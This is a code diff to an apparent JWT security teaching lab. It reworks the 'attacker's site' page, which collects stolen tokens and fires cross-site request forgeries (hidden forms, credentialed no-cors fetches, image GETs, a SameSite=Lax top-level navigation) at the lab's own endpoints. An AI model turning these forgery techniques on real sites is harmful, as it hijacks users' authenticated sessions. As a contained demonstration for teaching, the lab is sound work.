@@ -38,7 +38,7 @@ const INDEX_PAGE = `<!doctype html>
 <html lang="en"><head><meta charset="utf-8"><title>Attacker's site (JWT Lab demo)</title></head>
 <body><main><h1>The attacker's site</h1>
 <p>Part of JWT Lab's attack lab: a different site from the app, on loopback only. It collects what an
-injected script steals (<a href="/loot">/loot</a>), replays stolen tokens from its own server, and
+injected script steals (<a href="/loot">/loot</a>, one record at /loot/<var>id</var>), replays stolen tokens from its own server, and
 serves a page that forges requests to the app. Turn it off with ATTACK_LAB=false.</p></main></body></html>
 `;
 
@@ -74,17 +74,25 @@ const say = (text) => {
 };
 const at = (path) => target + path + '?run=' + encodeURIComponent(run);
 
+// Each forgery answers a promise that settles once the browser has sent it (or given up), so the
+// page knows when it may leave: navigating or closing earlier would cancel what is still in flight.
+const SETTLE_MS = 3000;
+const settled = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, SETTLE_MS))]);
+
 // The classic: a hidden form, submitted at once. A form can send only form or text bodies.
 function hiddenForm(path) {
   const form = document.getElementById('forged-form');
+  const sink = document.querySelector('iframe[name="sink"]');
+  const landed = new Promise((resolve) => sink.addEventListener('load', resolve, { once: true }));
   form.action = at(path);
   form.submit();
   say('Submitted a hidden form: POST ' + path + ' with a form body, answer into a hidden frame.');
+  return landed;
 }
 
 // A fetch the browser sends without asking anyone ("no-cors", a text body); its answer stays hidden.
 function textFetch(path) {
-  fetch(at(path), { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).then(
+  return fetch(at(path), { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).then(
     () => say('Sent fetch POST ' + path + ' with a text body (no-cors: the answer is hidden from this page).'),
     () => say('fetch POST ' + path + ' could not be sent.'),
   );
@@ -92,7 +100,7 @@ function textFetch(path) {
 
 // A JSON fetch with a guessed CSRF token: cross-origin JSON needs the app's permission first (a CORS preflight).
 function jsonFetch(path) {
-  fetch(at(path), {
+  return fetch(at(path), {
     method: 'POST',
     credentials: 'include',
     headers: { 'content-type': 'application/json', 'x-csrf-token': 'guessed-token' },
@@ -106,7 +114,7 @@ function jsonFetch(path) {
 // No body, so no Content-Type: the one cross-site POST that reaches a JSON API's handler at all.
 // Whether it works is up to SameSite (does the cookie ride along?), the Origin check and the CSRF token.
 function bodilessFetch(path) {
-  fetch(at(path), { method: 'POST', mode: 'no-cors', credentials: 'include' }).then(
+  return fetch(at(path), { method: 'POST', mode: 'no-cors', credentials: 'include' }).then(
     () => say('Sent fetch POST ' + path + ' with no body (no-cors: the answer is hidden from this page).'),
     () => say('fetch POST ' + path + ' could not be sent.'),
   );
@@ -114,11 +122,21 @@ function bodilessFetch(path) {
 
 // An image: a cross-site GET that needs no permission; SameSite alone decides whether the cookie rides along.
 function image(path) {
-  const picture = new Image();
-  picture.addEventListener('error', () => say('Image GET ' + path + ': refused (and it is not an image anyway).'));
-  picture.addEventListener('load', () => say('Image GET ' + path + ' loaded.'));
-  picture.src = at(path);
+  return new Promise((resolve) => {
+    const picture = new Image();
+    picture.addEventListener('error', () => resolve(say('Image GET ' + path + ': refused (and it is not an image anyway).')));
+    picture.addEventListener('load', () => resolve(say('Image GET ' + path + ' loaded.')));
+    picture.src = at(path);
+  });
 }
+
+// The last forgery, when there is one: this very window goes to the app. A top-level GET navigation
+// is the one cross-site request a SameSite=Lax cookie rides along on, and a browser that blocks
+// third-party cookies still sends it (the app is then the first party). Strict keeps it off.
+const topLevelNavigation = (path) => () => {
+  say('Navigating this window to GET ' + path + ' (a top-level navigation).');
+  location.assign(at(path));
+};
 
 const FORGERIES = {
   classic: [() => hiddenForm('/api/auth/logout-all'), () => textFetch('/api/auth/logout'), () => jsonFetch('/api/auth/logout-all'), () => image('/api/private')],
@@ -137,7 +155,14 @@ const FORGERIES = {
   header: [() => bodilessFetch('/api/auth/logout'), () => image('/api/private')],
   dpop: [() => bodilessFetch('/api/auth/logout'), () => image('/api/private')],
 };
-for (const forge of FORGERIES[strategy] ?? FORGERIES.classic) forge();
+/** What the page does once the forgeries above are out: leave for the app, or close (a run leaves no tabs). */
+const LAST_STEP = { cookie: topLevelNavigation('/api/private') };
+const closeThisWindow = () => {
+  say('Done: closing this window.');
+  window.close();
+};
+
+Promise.all((FORGERIES[strategy] ?? FORGERIES.classic).map((forge) => settled(forge()))).then(LAST_STEP[strategy] ?? closeThisWindow);
 `;
 
 function escapeHtml(text: string): string {
